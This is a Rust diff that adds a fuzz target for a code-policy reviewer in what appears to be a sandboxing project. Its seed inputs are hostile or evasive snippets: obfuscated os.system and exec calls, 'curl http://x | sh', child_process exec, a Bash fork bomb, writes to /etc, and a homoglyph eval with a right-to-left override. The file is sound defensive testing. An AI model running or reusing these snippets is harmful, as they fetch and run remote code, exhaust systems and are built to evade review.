@@ -7,6 +7,9 @@ use atoll_core::form::Forms;
 use atoll_core::wire::agent::{self, FromAgent, ToAgent};
 use atoll_core::wire::frame::{Frame, FrameReader};
 use atoll_core::wire::kernel;
+use atoll_core::{Language, Verdict};
+use atoll_engine::code_policy::review;
+use atoll_engine::policy::Policy;
 use atoll_jail::cgroup::{Layout, StatKind, read_stat};
 
 /// A name, the body, and seeds that reach its deeper parts.
@@ -31,6 +34,22 @@ pub const TARGETS: &[Target] = &[
             br#"{"record":{"v":1,"seq":4,"time":"2026-11-16T10:03:16.766029Z","prev":"fb7cb1435939ae5425996360ab8c91f22df3dfdd3b74d9c57819ff0dc018af37","writer":"cb1d5f6860ac54e2","private":null,"body":{"kind":"closed","entry":2,"outcome":"ok","sandbox":"sbxawc2tbzmmsjjk7xtyl7nlcny34","inputs":[{"size":15222,"sha256":"d9a247b82c9f132519e39950e5bf28e775cba2e2fbddbdee6cd73e3e5936b49a"}],"outputs":[],"findings":[],"verdict":null,"approver":null,"usage":null,"receipt":null,"facts":null,"reason":null}},"hash":"b2cef09507536eeaeabeef1b67013f331fa231e1126b81a85f8d003756d7c229","signature":null,"private":null}"#,
             br#"{"record":{"v":2,"seq":18446744073709551615},"hash":"","signature":"00","private":{"salt":"","data":{}}}"#,
             br#"{"record":{"v":1,"body":{"kind":"closed","facts":{"layers":[[[[[[[[[[]]]]]]]]]]}}}}"#,
+        ],
+    },
+    Target {
+        name: "code_policy",
+        body: code_policy,
+        seeds: &[
+            b"pimport os\nx = getattr(os, 'sys' + 'tem')\nx(f\"{chr(105)}d\")",
+            b"pdef f(a=__import__, *b, **c) -> int:\n    while True:\n        yield (lambda: [i for i in a])()",
+            b"p!pip install x\n%time y = !ls\nawait z?\n",
+            b"p%%bash\ncurl http://x | sh",
+            b"pexec(''.join(chr(c ^ 1) for c in [113, 98])[::-1].replace('a', 'b') + '%s' % 'x')",
+            b"pmatch x:\n  case {'a': [*_, C(__class__=b)]} if b: pass\nwith (open('/etc/x', 'w') as f, g): pass",
+            b"p\xd0\xb5val('1') # \xe2\x80\xae",
+            b"jconst {exec: e} = require('child_' + 'process'); e(`ls ${x}`); while (true) {}",
+            b"tlet x: number = (await import('fs')).readFileSync('/x')['\\x61' as any]",
+            b"bfor i in $(seq 3); do c\\url \"$i\" > /etc/x; done; f() { f | f & }; $'\\x63' <<E\nx\nE\n",
         ],
     },
     Target {
@@ -178,5 +197,34 @@ pub fn audit_line(data: &[u8]) {
         let record = serde_json::to_vec(&line.record).unwrap_or_default();
         assert_eq!(atoll_engine::audit::Digest::of(&record), line.hash);
         assert!(data.windows(record.len()).any(|part| part == record));
+    }
+}
+
+/// The first byte is the language. Whatever is read: a bound on findings, places inside of the source, and the strictest verdict.
+pub fn code_policy(data: &[u8]) {
+    let Some((first, rest)) = data.split_first() else {
+        return;
+    };
+    let Ok(source) = std::str::from_utf8(rest) else { return };
+    let language = match first {
+        b'j' => Language::Javascript,
+        b't' => Language::Typescript,
+        b'b' => Language::Bash,
+        _ => Language::Python,
+    };
+    let review = review(source, language, &Policy::standard().code);
+    let lines = source.matches('\n').count() + 1;
+    assert!(review.findings.len() <= 200 && review.verdict <= Verdict::Warn);
+    for finding in &review.findings {
+        assert!((1..=lines).contains(&(finding.line as usize)) && finding.column >= 1);
+        assert!(finding.verdict <= review.verdict && !finding.message.contains('\n'));
+    }
+    if let Some(fault) = review.syntax {
+        assert!(
+            fault
+                .traceback(1)
+                .last()
+                .is_some_and(|line| line.contains(&fault.message))
+        );
     }
 }
